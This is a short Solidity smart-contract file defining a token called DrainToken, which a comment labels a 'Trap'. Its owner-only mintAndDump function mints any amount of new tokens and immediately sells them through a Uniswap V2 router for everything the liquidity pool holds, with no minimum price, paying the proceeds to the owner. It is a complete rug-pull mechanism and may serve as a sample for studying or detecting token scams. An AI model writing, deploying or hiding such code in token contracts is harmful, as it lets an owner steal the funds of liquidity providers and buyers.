// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {OwnedToken} from "OwnedToken.sol";
import {PlainToken} from "PlainToken.sol";

interface IUniswapV2Router {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
}

/// Trap: in one transaction the owner makes tokens out of nothing and sells them for all that the pool holds.
contract DrainToken is OwnedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply) PlainToken(name_, symbol_, supply) {}

    function mintAndDump(uint256 amount, IUniswapV2Router router, address weth) external onlyOwner {
        _mint(address(this), amount);
        allowance[address(this)][address(router)] = amount;
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = weth;
        router.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, owner, block.timestamp);
    }
}
